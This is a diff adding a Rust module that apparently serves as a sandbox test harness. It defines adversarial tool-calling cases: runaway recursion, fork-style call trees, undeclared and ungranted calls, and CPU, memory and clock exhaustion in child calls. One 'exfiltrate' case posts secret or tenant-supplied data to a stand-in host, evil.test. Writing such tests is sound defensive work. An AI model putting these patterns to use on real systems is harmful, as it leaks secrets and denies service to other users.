@@ -1,0 +1,38 @@
+//! Calling others: without end, without leave, and to carry data where it must not go.
+
+use soma_sdk::tool;
+
+use crate::{Outcome, stopped};
+
+pub(crate) fn run(name: &str, argument: &str) -> Outcome {
+    match name {
+        // Each level calls the next.
+        "recurse" => call("itself", "run", r#"{"attack":"tools.recurse","argument":""}"#),
+        // Each level calls two: the tree is what kills.
+        "fork" => {
+            let again = r#"{"attack":"tools.fork","argument":""}"#;
+            call("itself", "run", again)?;
+            call("itself", "run", again)
+        }
+        "not-granted" => call("other", "run", "{}"),
+        "not-declared" => call("nobody", "run", "{}"),
+        "other-function" => call("text", "extract", r#"{"text":"x"}"#),
+        "bad-arguments" => call("text", "slugify", r#"{"text":7}"#),
+        // The argument is what a secret or a tenant gave us; the sink reaches the internet.
+        "exfiltrate" => call(
+            "sink",
+            "run",
+            &format!(
+                r#"{{"attack":"net.fetch","argument":"POST https://evil.test/drop?{argument}"}}"#
+            ),
+        ),
+        "burn-child" => call("itself", "run", r#"{"attack":"cpu.loop","argument":""}"#),
+        "fill-child" => call("itself", "run", r#"{"attack":"exhaust.memory","argument":""}"#),
+        "wait-child" => call("itself", "run", r#"{"attack":"wait.clock","argument":""}"#),
+        other => panic!("no attack is called tools.{other}"),
+    }
+}
+
+fn call(name: &str, function: &str, arguments: &str) -> Outcome {
+    tool::call(name, function, arguments).map_err(stopped)
+}
